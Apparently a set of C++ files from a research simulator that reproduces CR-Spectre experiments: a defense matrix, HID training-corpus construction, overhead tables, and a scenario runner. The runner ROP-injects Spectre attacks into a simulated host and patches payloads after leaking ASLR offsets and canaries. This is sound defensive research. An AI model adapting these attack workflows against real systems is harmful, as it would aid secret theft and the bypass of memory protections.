struct MatrixCell {
  std::string attack;
  std::string preset;
  int attempts = 0;
  int leaks = 0;                  ///< attempts that recovered the secret
  double leak_rate = 0.0;
  double hid_detection = 0.0;     ///< mean detection over attack windows
  /// Total mitigation events across the cell's attempts (the "did the
  /// defense actually engage" column; 0 only for the `none` preset).
  std::uint64_t mitigation_events = 0;
  /// Per-counter breakdown behind mitigation_events, summed over attempts.
  mitigate::MitigationSummary summary;
};

struct DefenseMatrixResult {
  std::vector<std::string> presets;          ///< column order
  std::vector<std::string> attacks;          ///< row order
  std::vector<MatrixCell> cells;             ///< row-major (attack × preset)
  /// Per-preset clean-host IPC overhead (percent), aligned with `presets`.
  std::vector<double> ipc_overhead_pct;

  const MatrixCell& cell(const std::string& attack,
                         const std::string& preset) const;

  /// Mitigation activity of one preset summed over every attack row — the
  /// `--metrics` view.
  mitigate::MitigationSummary preset_summary(const std::string& preset) const;
};

/// The default attack rows: spectre-pht and spectre-rsb standalone, plus
/// the ROP-injected CR-Spectre with the paper's static perturbation.
std::vector<AttackSpec> default_attacks(const DefenseMatrixConfig& config);

DefenseMatrixResult run_defense_matrix(const DefenseMatrixConfig& config);

/// Sweep with extra attack rows appended after the defaults — how mined
/// gadget scenarios (tools/gadget_hunter --emit-scenarios, crs_matrix
/// --mined) join the matrix. Extra rows follow the same per-attack seed
/// derivation, so the default rows stay byte-identical to the plain sweep.
DefenseMatrixResult run_defense_matrix(
    const DefenseMatrixConfig& config,
    const std::vector<AttackSpec>& extra_attacks);

/// CSV: header row `attack,preset,attempts,leaks,leak_rate,hid_detection,
/// mitigation_events,ipc_overhead_pct`, one line per cell.
std::string matrix_csv(const DefenseMatrixResult& result);

/// JSON object with `presets`, `attacks`, `cells` and `ipc_overhead_pct`.
std::string matrix_json(const DefenseMatrixResult& result);

/// Per-preset mitigation-counter CSV: `preset,metric,value`, one line per
/// (preset, non-zero-or-not counter). Ground-truth counters, present in
/// every build flavour (not obs-gated).
std::string matrix_metrics_csv(const DefenseMatrixResult& result);

}  // namespace crs::core
