// Training-corpus construction for the HID (paper §III-A: "We collect a
// total of 2000 samples for each class ... the scope of applications
// profiled also includes the host and other benign applications like
// browsers, text editors, etc.").
//
// Benign corpus: windows from every workload (the eight MiBench-like hosts
// plus the browser/editor-style pool) run with benign inputs at jittered
// scales. Attack corpus: windows from standalone runs of the requested
// Spectre variants (no perturbation — the clean signatures the defender
// can realistically train on).
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "attack/spectre.hpp"
#include "hid/profiler.hpp"
#include "ml/dataset.hpp"

namespace crs::core {

struct CorpusConfig {
  /// Apps profiled into the benign class; empty = full catalogue.
  std::vector<std::string> benign_apps;
  std::size_t windows_per_class = 2000;
  std::uint64_t host_scale = 400;
  std::string secret = "CRSPECTRE-SECRET";
  /// Defaults to every implemented variant (pht, rsb, stride, btb); the
  /// paper averages its accuracies over the Spectre variants it runs.
  std::vector<attack::SpectreVariant> variants = attack::all_variants();
  hid::ProfilerConfig profiler;
  std::uint64_t seed = 99;
};

/// Universe-feature dataset, label 0.
ml::Dataset build_benign_corpus(const CorpusConfig& config);

/// Universe-feature dataset from standalone Spectre runs, label 1.
ml::Dataset build_attack_corpus(const CorpusConfig& config);

}  // namespace crs::core
