// Table I: IPC overhead of CR-Spectre on the host application.
//
// The paper reports the host application's IPC in three settings: original
// (no attack), CR-Spectre under an offline-type HID (one static
// perturbation variant), and CR-Spectre under an online-type HID (dynamic
// variants, which disperse more and therefore run longer). Because the
// injected attack executes under the host's identity, the measured IPC is
// the *whole process's*: the overhead is the attack's (low-IPC) execution
// diluted by a long host run, plus cache/predictor pollution of the host's
// own work. Hosts are sized so the attack is a ~1-3% sliver — the paper's
// regime, where overhead lands around a percent. Values are averaged over
// repeated jittered runs (the paper averages 100 iterations).
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "core/scenario.hpp"

namespace crs::core {

struct OverheadRow {
  std::string label;  ///< e.g. "Bitcount 50M"
  std::string host;
  std::uint64_t scale = 0;
  double original_ipc = 0.0;
  double offline_ipc = 0.0;  ///< CR-Spectre, static perturbation
  double online_ipc = 0.0;   ///< CR-Spectre, dynamic perturbation
  double offline_overhead_pct = 0.0;
  double online_overhead_pct = 0.0;
};

struct OverheadConfig {
  int repeats = 3;
  std::uint64_t seed = 17;
  /// Short secret: one burglary, not a bulk exfiltration.
  std::string secret = "KEY0";
  hid::ProfilerConfig profiler;
};

/// Measures one Table I row.
OverheadRow measure_overhead(const std::string& label, const std::string& host,
                             std::uint64_t scale,
                             const OverheadConfig& config = {});

/// The paper's five rows: Math, Bitcount 50M, Bitcount 100M, SHA 1, SHA 2
/// (simulation-scaled; see EXPERIMENTS.md for the scale mapping).
std::vector<OverheadRow> table_one(const OverheadConfig& config = {});

/// IPC overhead (percent, positive = slower) that a mitigation set imposes
/// on a clean, non-attacked host run — the defense matrix's cost column.
/// Paired seeds: every repeat runs the same jittered host with and without
/// the mitigations, so the contrast is the defense's alone.
double mitigation_overhead_pct(const std::string& host, std::uint64_t scale,
                               const mitigate::MitigationConfig& mitigations,
                               const OverheadConfig& config = {});

/// IPC overhead (percent, positive = slower) that a hardening configuration
/// imposes on a clean, non-attacked host run (canary plant/check
/// instructions, relocated layout, guarded-heap bookkeeping) — the harden
/// sweep's cost column. Same paired-seed discipline as
/// mitigation_overhead_pct.
double harden_overhead_pct(const std::string& host, std::uint64_t scale,
                           const harden::HardenConfig& harden,
                           const OverheadConfig& config = {});

}  // namespace crs::core
