// Result export: CSV serialisation of profiled windows and campaign
// records, for external analysis/plotting of the reproduced figures.
#pragma once

#include <string>
#include <vector>

#include "core/campaign.hpp"
#include "hid/profiler.hpp"

namespace crs::core {

/// One row per window: every universe feature (named header) plus the
/// ground-truth `injected` flag. Measured (noisy) values.
std::string windows_to_csv(const std::vector<hid::WindowSample>& windows);

/// One row per attempt: attempt, detection_rate, detected, evaded,
/// mutated_after, secret_recovered, host_ipc, attack_windows, variant.
std::string campaign_to_csv(const CampaignResult& result);

/// Writes `content` to `path`; throws crs::Error on I/O failure.
void write_text_file(const std::string& path, const std::string& content);

/// The run-configuration object every --bench-json reporter embeds as
/// `"config":{...}`: worker-thread count, snapshot fast-reset engine,
/// copy-on-write fork engine, execution engine, and mitigation preset, all
/// sampled from the
/// process-wide state at emit time so perf records from crsim, crs_matrix
/// and the micro benches stay comparable without each tool re-deriving the
/// context. Pass the serialized mitigation set when one is armed; empty
/// means "none".
std::string bench_config_json(const std::string& mitigations = "");

}  // namespace crs::core
