#include "core/corpus.hpp"

#include "core/scenario.hpp"
#include "hid/features.hpp"
#include "obs/metrics.hpp"
#include "support/error.hpp"
#include "support/parallel.hpp"
#include "support/rng.hpp"
#include "workloads/workloads.hpp"

namespace crs::core {

namespace {

/// Everything one benign profiling run needs, drawn serially from the
/// corpus RNG so the draw order matches the historical serial loop exactly.
struct BenignSpec {
  std::string app;
  workloads::WorkloadOptions wopt;
  hid::ProfilerConfig prof;
  std::uint64_t kernel_seed = 0;
  std::string arg;
};

/// Executes one benign run on its own machine and returns the feature rows
/// of its windows. Share-nothing: safe to run concurrently.
std::vector<std::vector<double>> run_benign_spec(const BenignSpec& spec) {
  sim::Machine machine;
  sim::KernelConfig kcfg;
  kcfg.seed = spec.kernel_seed;
  sim::Kernel kernel(machine, kcfg);
  kernel.register_binary("/bin/app",
                         workloads::build_workload(spec.app, spec.wopt));
  const auto profile =
      hid::profile_run_strings(kernel, "/bin/app", {spec.app, spec.arg},
                               spec.prof);
  CRS_ENSURE(profile.stop == sim::StopReason::kHalted,
             "benign run of '" + spec.app + "' did not halt");
  std::vector<std::vector<double>> rows;
  rows.reserve(profile.windows.size());
  for (const auto& w : profile.windows) {
    rows.push_back(hid::feature_vector(w.delta));
  }
  return rows;
}

/// Executes one standalone Spectre run and returns its attack-window rows.
std::vector<std::vector<double>> run_attack_spec(
    const ScenarioConfig& scenario) {
  const ScenarioRun run = run_scenario(scenario);
  CRS_ENSURE(run.secret_recovered,
             "standalone Spectre failed during corpus construction");
  std::vector<std::vector<double>> rows;
  rows.reserve(run.attack_windows.size());
  for (const auto& w : run.attack_windows) {
    rows.push_back(hid::feature_vector(w.delta));
  }
  return rows;
}

/// Appends each run's rows in draw order until the dataset reaches
/// `target`; returns true when it did.
bool append_until(ml::Dataset& out,
                  const std::vector<std::vector<std::vector<double>>>& runs,
                  int label, std::size_t target) {
  for (const auto& rows : runs) {
    for (const auto& row : rows) {
      out.append(row, label);
      if (out.size() >= target) return true;
    }
  }
  return out.size() >= target;
}

}  // namespace

ml::Dataset build_benign_corpus(const CorpusConfig& config) {
  std::vector<std::string> apps = config.benign_apps;
  if (apps.empty()) {
    for (const auto& w : workloads::host_catalog()) apps.push_back(w.name);
    for (const auto& w : workloads::benign_pool_catalog())
      apps.push_back(w.name);
  }
  CRS_ENSURE(!apps.empty(), "benign corpus needs at least one app");

  Rng rng(config.seed);
  ml::Dataset out;
  std::size_t app_index = 0;
  int guard = 0;
  ThreadPool pool;
  while (out.size() < config.windows_per_class) {
    // Draw a batch of run specs serially — exactly the draws, in exactly
    // the order, the serial loop made — then execute the share-nothing runs
    // on the pool and append their windows in draw order. The corpus is
    // bit-identical for every thread count.
    std::vector<BenignSpec> batch;
    for (unsigned b = 0; b < pool.size(); ++b) {
      CRS_ENSURE(++guard < 10'000, "benign corpus failed to accumulate");
      BenignSpec spec;
      spec.app = apps[app_index];
      app_index = (app_index + 1) % apps.size();
      spec.wopt.scale =
          config.host_scale +
          rng.next_below(std::max<std::uint64_t>(config.host_scale / 4, 1));
      spec.prof = config.profiler;
      spec.prof.window_cycles += rng.next_below(
          std::max<std::uint64_t>(spec.prof.window_cycles / 10, 1));
      spec.prof.noise_seed = rng.next_u64();
      spec.kernel_seed = rng.next_u64();
      spec.arg = "benign-" + std::to_string(rng.next_below(1000));
      batch.push_back(std::move(spec));
    }
    const auto runs = parallel_map<std::vector<std::vector<double>>>(
        pool, batch.size(),
        [&](std::size_t i) { return run_benign_spec(batch[i]); });
    if (append_until(out, runs, 0, config.windows_per_class)) break;
  }
  // Only consumed quantities are published: batches over-produce by up to
  // pool.size()-1 runs, so per-run profiler counters emitted during corpus
  // construction are thread-count-dependent while these totals are not.
  if constexpr (obs::kEnabled) {
    auto& reg = obs::MetricsRegistry::instance();
    reg.counter("core.corpus.benign_builds").add(1);
    reg.counter("core.corpus.benign_windows").add(out.size());
  }
  return out;
}

ml::Dataset build_attack_corpus(const CorpusConfig& config) {
  CRS_ENSURE(!config.variants.empty(), "attack corpus needs variants");
  Rng rng(config.seed ^ 0xA77ACCull);
  ml::Dataset out;
  std::size_t variant_index = 0;
  int guard = 0;
  ThreadPool pool;
  while (out.size() < config.windows_per_class) {
    std::vector<ScenarioConfig> batch;
    for (unsigned b = 0; b < pool.size(); ++b) {
      CRS_ENSURE(++guard < 10'000, "attack corpus failed to accumulate");
      ScenarioConfig scenario;
      scenario.secret = config.secret;
      scenario.variant = config.variants[variant_index];
      variant_index = (variant_index + 1) % config.variants.size();
      scenario.rop_injected = false;
      scenario.perturb = false;
      scenario.seed = rng.next_u64();
      scenario.profiler = config.profiler;
      batch.push_back(std::move(scenario));
    }
    const auto runs = parallel_map<std::vector<std::vector<double>>>(
        pool, batch.size(),
        [&](std::size_t i) { return run_attack_spec(batch[i]); });
    if (append_until(out, runs, 1, config.windows_per_class)) break;
  }
  if constexpr (obs::kEnabled) {
    auto& reg = obs::MetricsRegistry::instance();
    reg.counter("core.corpus.attack_builds").add(1);
    reg.counter("core.corpus.attack_windows").add(out.size());
  }
  return out;
}

}  // namespace crs::core
