#include "core/corpus.hpp"

#include "core/scenario.hpp"
#include "hid/features.hpp"
#include "support/error.hpp"
#include "support/rng.hpp"
#include "workloads/workloads.hpp"

namespace crs::core {

ml::Dataset build_benign_corpus(const CorpusConfig& config) {
  std::vector<std::string> apps = config.benign_apps;
  if (apps.empty()) {
    for (const auto& w : workloads::host_catalog()) apps.push_back(w.name);
    for (const auto& w : workloads::benign_pool_catalog())
      apps.push_back(w.name);
  }
  CRS_ENSURE(!apps.empty(), "benign corpus needs at least one app");

  Rng rng(config.seed);
  ml::Dataset out;
  std::size_t app_index = 0;
  int guard = 0;
  while (out.size() < config.windows_per_class) {
    CRS_ENSURE(++guard < 10'000, "benign corpus failed to accumulate");
    const std::string& name = apps[app_index];
    app_index = (app_index + 1) % apps.size();

    workloads::WorkloadOptions wopt;
    wopt.scale = config.host_scale +
                 rng.next_below(std::max<std::uint64_t>(config.host_scale / 4, 1));
    hid::ProfilerConfig prof = config.profiler;
    prof.window_cycles +=
        rng.next_below(std::max<std::uint64_t>(prof.window_cycles / 10, 1));
    prof.noise_seed = rng.next_u64();

    sim::Machine machine;
    sim::KernelConfig kcfg;
    kcfg.seed = rng.next_u64();
    sim::Kernel kernel(machine, kcfg);
    kernel.register_binary("/bin/app", workloads::build_workload(name, wopt));
    const auto profile = hid::profile_run_strings(
        kernel, "/bin/app",
        {name, "benign-" + std::to_string(rng.next_below(1000))}, prof);
    CRS_ENSURE(profile.stop == sim::StopReason::kHalted,
               "benign run of '" + name + "' did not halt");
    for (const auto& w : profile.windows) {
      out.append(hid::feature_vector(w.delta), 0);
      if (out.size() >= config.windows_per_class) break;
    }
  }
  return out;
}

ml::Dataset build_attack_corpus(const CorpusConfig& config) {
  CRS_ENSURE(!config.variants.empty(), "attack corpus needs variants");
  Rng rng(config.seed ^ 0xA77ACCull);
  ml::Dataset out;
  std::size_t variant_index = 0;
  int guard = 0;
  while (out.size() < config.windows_per_class) {
    CRS_ENSURE(++guard < 10'000, "attack corpus failed to accumulate");
    ScenarioConfig scenario;
    scenario.secret = config.secret;
    scenario.variant = config.variants[variant_index];
    variant_index = (variant_index + 1) % config.variants.size();
    scenario.rop_injected = false;
    scenario.perturb = false;
    scenario.seed = rng.next_u64();
    scenario.profiler = config.profiler;

    const ScenarioRun run = run_scenario(scenario);
    CRS_ENSURE(run.secret_recovered,
               "standalone Spectre failed during corpus construction");
    for (const auto& w : run.attack_windows) {
      out.append(hid::feature_vector(w.delta), 1);
      if (out.size() >= config.windows_per_class) break;
    }
  }
  return out;
}

}  // namespace crs::core
