#include "core/scenario.hpp"

#include <algorithm>

#include "attack/spectre11.hpp"
#include "casm/assembler.hpp"
#include "casm/runtime.hpp"
#include "rop/chain.hpp"
#include "support/error.hpp"
#include "support/memo.hpp"
#include "support/rng.hpp"

namespace crs::core {

namespace {

constexpr const char* kHostPath = "/bin/host";
constexpr const char* kAttackPath = "/bin/cr_spectre";
constexpr const char* kProbePath = "/bin/layout_probe";
/// Instruction budget for one leak-stage probe run. The scan is bounded
/// (aslr_range/page candidates, 8 canary bytes), so a deterministic cap far
/// above the worst case keeps a broken probe from hanging a campaign.
constexpr std::uint64_t kProbeBudget = 50'000'000;

// Process-wide content-addressed build caches (support/memo.hpp). The
// builds are pure functions of their configs, so concurrent campaigns share
// one artifact per distinct config instead of rebuilding per attempt.
MemoCache<sim::Program>& workload_cache() {
  static MemoCache<sim::Program> cache;
  return cache;
}
MemoCache<sim::Program>& attack_cache() {
  static MemoCache<sim::Program> cache;
  return cache;
}
MemoCache<rop::InjectionPlan>& plan_cache() {
  static MemoCache<rop::InjectionPlan> cache;
  return cache;
}

void hash_perturb(HashBuilder& h, const perturb::PerturbParams& p) {
  h.i64(p.a)
      .i64(p.b)
      .i64(p.loop_count)
      .i64(p.a_step)
      .i64(p.b_step)
      .i64(p.extra_ladders)
      .i64(p.delay)
      .i64(static_cast<int>(p.style))
      .b(p.flushless);
}

std::uint64_t hash_workload(const std::string& host,
                            const workloads::WorkloadOptions& opt) {
  HashBuilder h;
  h.str(host).u64(opt.scale).b(opt.canary).str(opt.secret).u64(opt.link_base);
  return h.digest();
}

std::uint64_t hash_attack_config(const attack::AttackConfig& a) {
  HashBuilder h;
  h.i64(static_cast<int>(a.variant))
      .u64(a.target_secret_address)
      .str(a.embed_secret)
      .u32(a.secret_length)
      .i64(a.train_iterations)
      .i64(static_cast<int>(a.channel))
      .i64(static_cast<int>(a.recovery))
      .u32(a.threshold)
      .i64(a.rounds_per_byte)
      .u32(a.probe_stride)
      .b(a.perturb);
  hash_perturb(h, a.perturb_params);
  h.i64(a.perturb_every)
      .i64(a.perturb_probe_interval)
      .u64(a.link_base)
      .str(a.name);
  return h.digest();
}

std::uint64_t hash_plan_key(const sim::Program& host,
                            const rop::ReconSpec& spec,
                            const std::string& attack_path) {
  HashBuilder h;
  h.u64(sim::hash_program(host));
  h.str(spec.path).str(spec.entry_label).str(spec.body_label);
  h.u64(spec.benign_args.size());
  for (const auto& arg : spec.benign_args) h.str(arg);
  h.u64(spec.max_instructions).str(attack_path);
  return h.digest();
}

std::shared_ptr<const sim::Program> memo_workload(
    const std::string& host, const workloads::WorkloadOptions& opt) {
  return workload_cache().get_or_build(
      hash_workload(host, opt),
      [&] { return workloads::build_workload(host, opt); });
}

std::shared_ptr<const sim::Program> memo_attack(
    const attack::AttackConfig& acfg) {
  return attack_cache().get_or_build(
      hash_attack_config(acfg),
      [&] { return attack::build_attack_binary(acfg); });
}

std::shared_ptr<const rop::InjectionPlan> memo_plan(
    const sim::Program& host, const rop::ReconSpec& spec,
    const std::string& attack_path) {
  return plan_cache().get_or_build(hash_plan_key(host, spec, attack_path), [&] {
    return rop::plan_injection(host, spec, attack_path);
  });
}

/// Mined replay programs (mine/synth.cpp) arrive as assembly text; complete
/// them against the scenario's secret and assemble at the attack link base.
/// Standalone sources are pre-wrapped (they define mine_secret_base/len);
/// injected sources get numeric `.equ`s against the host's resolved secret.
sim::Program build_mined_attack(const ScenarioConfig& config,
                                std::uint64_t secret_address,
                                std::uint64_t link_base) {
  std::string src;
  if (config.rop_injected) {
    src = ".equ mine_secret_len, " + std::to_string(config.secret.size()) +
          "\n.equ mine_secret_base, " + std::to_string(secret_address) + "\n";
  }
  src += config.mined_attack_source;
  src += "\n";
  src += casm::runtime_library();
  return casm::assemble(src,
                        {.name = "mined-attack", .link_base = link_base});
}

std::shared_ptr<const sim::Program> memo_mined_attack(
    const ScenarioConfig& config, std::uint64_t secret_address,
    std::uint64_t link_base) {
  HashBuilder h;
  h.str("mined-attack")
      .str(config.mined_attack_source)
      .b(config.rop_injected)
      .str(config.secret)
      .u64(secret_address)
      .u64(link_base);
  return attack_cache().get_or_build(h.digest(), [&] {
    return build_mined_attack(config, secret_address, link_base);
  });
}

std::shared_ptr<const sim::Program> memo_spectre11(
    const attack::Spectre11Config& scfg) {
  HashBuilder h;
  h.str("spectre11")
      .u64(scfg.target_secret_address)
      .str(scfg.embed_secret)
      .u32(scfg.secret_length)
      .i64(scfg.train_iterations)
      .u64(scfg.link_base)
      .str(scfg.name);
  return attack_cache().get_or_build(
      h.digest(), [&] { return attack::build_spectre11_binary(scfg); });
}

std::shared_ptr<const sim::Program> memo_probe(const sim::Program& victim,
                                               const sim::KernelConfig& kcfg,
                                               bool leak_canary) {
  HashBuilder h;
  h.str("layout-probe")
      .u64(sim::hash_program(victim))
      .b(kcfg.aslr)
      .u64(kcfg.aslr_range)
      .b(leak_canary);
  return attack_cache().get_or_build(h.digest(), [&] {
    return harden::build_probe_binary(
        harden::probe_config_for(victim, kcfg, leak_canary));
  });
}

rop::ReconSpec make_recon_spec(const ScenarioConfig& config) {
  rop::ReconSpec rspec;
  rspec.path = kHostPath;
  rspec.benign_args = {config.host, "recon-benign-input"};
  return rspec;
}

}  // namespace

attack::AttackConfig make_attack_config(const ScenarioConfig& config,
                                        std::uint64_t secret_address) {
  attack::AttackConfig acfg;
  acfg.variant = config.variant;
  acfg.secret_length = static_cast<std::uint32_t>(config.secret.size());
  if (config.rop_injected) {
    acfg.target_secret_address = secret_address;
  } else {
    acfg.embed_secret = config.secret;
  }
  if (config.variant == attack::SpectreVariant::kStride) {
    acfg.probe_stride = 192;
  }
  acfg.perturb = config.perturb;
  acfg.perturb_params = config.perturb_params;
  return acfg;
}

ScenarioSession::ScenarioSession(const ScenarioConfig& config)
    : config_(config), snapshot_mode_(fast_reset_enabled()) {
  CRS_ENSURE(!config_.secret.empty(), "scenario needs a secret");
  CRS_ENSURE(!config_.leak_stage || config_.rop_injected,
             "leak_stage requires a ROP-injected scenario");
  CRS_ENSURE(!config_.spectre11 || !config_.rop_injected,
             "spectre11 scenarios run standalone");

  // First draw of the per-attempt Rng(seed) stream: the host's work scale.
  // The session pins it to the session seed (run_attempt consumes-and-
  // discards the same draw), so run_scenario(config) and
  // ScenarioSession(config).run_attempt(config.seed) see identical streams.
  Rng rng(config_.seed);
  wopt_.scale =
      config_.host_scale +
      rng.next_below(std::max<std::uint64_t>(config_.host_scale / 8, 1));
  wopt_.canary = config_.canary || config_.harden.canary;
  wopt_.secret = config_.secret;

  if (config_.rop_injected) {
    host_ = memo_workload(config_.host, wopt_);
    secret_address_ = host_->symbol("host_secret");
    // Adversary offline phase (gadgets + recon + payload), against the
    // no-ASLR layout the attacker assumes. Deterministic given host + spec,
    // so memoized — and independent of the attack binary's contents, which
    // is what lets dynamic-perturbation attempts keep the plan.
    plan_ = memo_plan(*host_, make_recon_spec(config_), kAttackPath);
    kcfg_.aslr = config_.aslr;
  }
  config_.mitigations.apply(mcfg_, kcfg_);
  config_.harden.apply(kcfg_);
  if (config_.leak_stage) {
    probe_ = memo_probe(*host_, kcfg_, wopt_.canary);
  }
  build_machine();
  ensure_attack_binary(config_.perturb_params, secret_address_);
}

void ScenarioSession::build_machine() {
  // With cow on, every session (and every legacy --snapshot=off rebuild)
  // replicates from the process-wide frozen baseline for this machine
  // config in O(metadata) instead of paying a 16 MB private build — the
  // fan-out path campaign/matrix/serve workers share one warm baseline
  // through. A fork is bit-identical to Machine(mcfg_), so this is a cost
  // switch only.
  if (cow_enabled()) {
    machine_ = std::make_unique<sim::Machine>(*sim::shared_baseline(mcfg_));
  } else {
    machine_ = std::make_unique<sim::Machine>(mcfg_);
  }
  kernel_ = std::make_unique<sim::Kernel>(*machine_, kcfg_);
  armed_ = mitigate::arm(*kernel_, config_.mitigations);
  if (host_) kernel_->register_binary(kHostPath, *host_);
  if (attack_) kernel_->register_binary(kAttackPath, *attack_);
  if (probe_) kernel_->register_binary(kProbePath, *probe_);
  fresh_ = true;
}

void ScenarioSession::ensure_attack_binary(
    const perturb::PerturbParams& params, std::uint64_t target_address) {
  if (attack_ && params == attack_params_ && target_address == attack_target_)
    return;
  ScenarioConfig cfg = config_;
  cfg.perturb_params = params;
  if (config_.spectre11) {
    attack::Spectre11Config scfg;
    scfg.embed_secret = config_.secret;
    scfg.secret_length = static_cast<std::uint32_t>(config_.secret.size());
    attack_ = memo_spectre11(scfg);
  } else if (!config_.mined_attack_source.empty()) {
    attack_ = memo_mined_attack(config_, target_address,
                                make_attack_config(cfg, target_address)
                                    .link_base);
  } else {
    attack_ = memo_attack(make_attack_config(cfg, target_address));
  }
  attack_params_ = params;
  attack_target_ = target_address;
  kernel_->register_binary(kAttackPath, *attack_);
}

ScenarioRun ScenarioSession::run_attempt(std::uint64_t seed) {
  return run_attempt(seed, config_.perturb_params);
}

ScenarioRun ScenarioSession::run_attempt(std::uint64_t seed,
                                         const perturb::PerturbParams& params) {
  ++attempts_;

  // Per-attempt jitter, reproducing run_scenario's Rng(seed) stream: the
  // scale draw was consumed at session construction, the sampling phase and
  // noise seed vary per attempt like back-to-back measurements.
  Rng rng(seed);
  (void)rng.next_below(std::max<std::uint64_t>(config_.host_scale / 8, 1));
  hid::ProfilerConfig prof = config_.profiler;
  prof.window_cycles +=
      rng.next_below(std::max<std::uint64_t>(prof.window_cycles / 10, 1));
  prof.noise_seed = rng.next_u64();

  if (!fresh_) {
    if (snapshot_mode_) {
      machine_->restore(*snap_);
    } else {
      build_machine();  // legacy rebuild path (--snapshot=off)
    }
  } else if (snapshot_mode_) {
    snap_ = std::make_unique<sim::MachineSnapshot>(machine_->snapshot());
  }
  fresh_ = false;

  ScenarioRun out;
  const std::uint64_t kernel_seed =
      seed ^ (config_.rop_injected ? 0x5A5Aull : 0xABCDull);
  std::uint64_t attack_target = secret_address_;
  std::vector<std::uint8_t> payload_bytes;
  if (config_.rop_injected) payload_bytes = plan_->payload.bytes;

  if (config_.rop_injected && config_.leak_stage) {
    // --- leak pass: same kernel seed ⇒ the loader replays the exact
    // stack/image/canary draws of the exploit pass, but the entry point is
    // hijacked to the speculative probe (argv lengths match the exploit's,
    // so the marshalled stack pointer matches too).
    kernel_->reset_for_attempt(kernel_seed);
    std::vector<std::vector<std::uint8_t>> pargs;
    pargs.emplace_back(config_.host.begin(), config_.host.end());
    pargs.push_back(plan_->payload.bytes);
    kernel_->start_probe(kHostPath, kProbePath, pargs);
    if (kernel_->run(kProbeBudget) == sim::StopReason::kHalted) {
      out.leak = harden::parse_probe_output(kernel_->output());
      out.leak_stage_ran = true;
      rop::LeakAdjust adj;
      if (out.leak.found_base) adj.image_delta = out.leak.base_delta;
      adj.stack_delta = out.leak.stack_pointer - plan_->frame.start_sp;
      adj.patch_canary = wopt_.canary;
      adj.canary = out.leak.canary;
      payload_bytes = rop::patch_payload_for_leak(
                          plan_->payload, plan_->frame.filler_length, adj)
                          .bytes;
      attack_target = secret_address_ + adj.image_delta;
    }
    // Roll the dirtied machine back for the exploit pass.
    if (snapshot_mode_) {
      machine_->restore(*snap_);
    } else {
      build_machine();
    }
  }

  ensure_attack_binary(params, attack_target);
  kernel_->reset_for_attempt(kernel_seed);
  // A fresh arm() starts with zero fence-pass stats every attempt; the
  // session's long-lived hook must look the same to summarize().
  *armed_.fence_stats = mitigate::FencePassStats{};

  if (!config_.rop_injected) {
    // Standalone ("traditional") Spectre: the attack binary runs directly.
    out.profile =
        hid::profile_run_strings(*kernel_, kAttackPath, {"cr_spectre"}, prof);
    out.attack_windows = out.profile.windows;  // the whole run is attack
    out.attack_launched = true;
    out.recovered = out.profile.output;
    out.secret_recovered = out.recovered == config_.secret;
    out.host_ipc = 0.0;
    out.mitigation = mitigate::summarize(*machine_, *kernel_, armed_);
    out.harden = harden::summarize(*kernel_, config_.harden);
    return out;
  }

  // --- CR-Spectre: ROP-injected into the host ---
  std::vector<std::vector<std::uint8_t>> args;
  args.emplace_back(config_.host.begin(), config_.host.end());
  args.push_back(payload_bytes);
  out.profile = hid::profile_run(*kernel_, kHostPath, args, prof);

  // Ground-truth split. Sized up front; the samples are trivially copyable
  // (std::array deltas), so the moved-from originals in profile.windows
  // stay intact for callers that read them (golden traces, trace export).
  std::size_t n_attack = 0;
  for (const auto& w : out.profile.windows) n_attack += w.injected ? 1 : 0;
  out.attack_windows.reserve(n_attack);
  out.host_windows.reserve(out.profile.windows.size() - n_attack);
  for (auto& w : out.profile.windows) {
    (w.injected ? out.attack_windows : out.host_windows).push_back(
        std::move(w));
  }
  out.attack_launched = kernel_->execve_count() > 0;
  out.recovered = out.profile.output;
  out.secret_recovered = out.recovered == config_.secret;

  // IPC from the noiseless deltas: Table I's ~1% contrasts would otherwise
  // drown in measurement noise.
  std::uint64_t host_instr = 0, host_cycles = 0;
  for (const auto& w : out.host_windows) {
    host_instr +=
        w.true_delta[static_cast<std::size_t>(sim::Event::kInstructions)];
    host_cycles += w.true_delta[static_cast<std::size_t>(sim::Event::kCycles)];
  }
  out.host_ipc = host_cycles == 0
                     ? 0.0
                     : static_cast<double>(host_instr) /
                           static_cast<double>(host_cycles);
  out.mitigation = mitigate::summarize(*machine_, *kernel_, armed_);
  out.harden = harden::summarize(*kernel_, config_.harden);
  return out;
}

ScenarioRun run_scenario(const ScenarioConfig& config) {
  ScenarioSession session(config);
  return session.run_attempt(config.seed);
}

std::uint64_t hash_scenario_config(const ScenarioConfig& c) {
  HashBuilder h;
  h.str(c.host).u64(c.host_scale).str(c.secret);
  h.i64(static_cast<int>(c.variant)).b(c.rop_injected).b(c.perturb);
  h.str(c.mined_attack_source);
  hash_perturb(h, c.perturb_params);
  h.b(c.canary).b(c.aslr);
  h.b(c.harden.aslr).b(c.harden.canary).b(c.harden.heap_guard);
  h.b(c.leak_stage).b(c.spectre11);
  const mitigate::MitigationConfig& m = c.mitigations;
  h.b(m.fence_bounds)
      .b(m.slh)
      .b(m.retpoline)
      .b(m.flush_predictors)
      .b(m.flush_l1)
      .b(m.partition_cache)
      .b(m.ward_split);
  h.u64(c.seed);
  const hid::ProfilerConfig& p = c.profiler;
  h.u64(p.window_cycles)
      .u64(p.max_windows)
      .u64(p.max_instructions)
      .f64(p.noise_sigma)
      .f64(p.background_intensity)
      .u64(p.noise_seed);
  return h.digest();
}

namespace {
// Per-thread override for the session-cache size (0 = default). Each live
// session holds a 16 MB machine, so the default stays small; serve shards
// raise it to their routed-config count.
thread_local std::size_t session_cache_capacity = 0;
}  // namespace

void set_session_cache_capacity(std::size_t capacity) {
  session_cache_capacity = capacity;
}

ScenarioSession& thread_session(const ScenarioConfig& config) {
  // Campaign drivers key sessions per cell, and a thread rarely interleaves
  // more than a few cells; the serve shards override this per worker.
  const std::size_t capacity =
      std::max<std::size_t>(1, session_cache_capacity != 0
                                   ? session_cache_capacity
                                   : 4);
  struct Entry {
    std::uint64_t key = 0;
    std::uint64_t last_use = 0;
    std::unique_ptr<ScenarioSession> session;
  };
  thread_local std::vector<Entry> cache;
  thread_local std::uint64_t tick = 0;

  const std::uint64_t key = hash_scenario_config(config);
  ++tick;
  for (Entry& e : cache) {
    if (e.key == key) {
      e.last_use = tick;
      return *e.session;
    }
  }
  while (cache.size() > capacity) {  // capacity was lowered mid-thread
    std::size_t victim = 0;
    for (std::size_t i = 1; i < cache.size(); ++i) {
      if (cache[i].last_use < cache[victim].last_use) victim = i;
    }
    cache.erase(cache.begin() + static_cast<std::ptrdiff_t>(victim));
  }
  if (cache.size() >= capacity) {
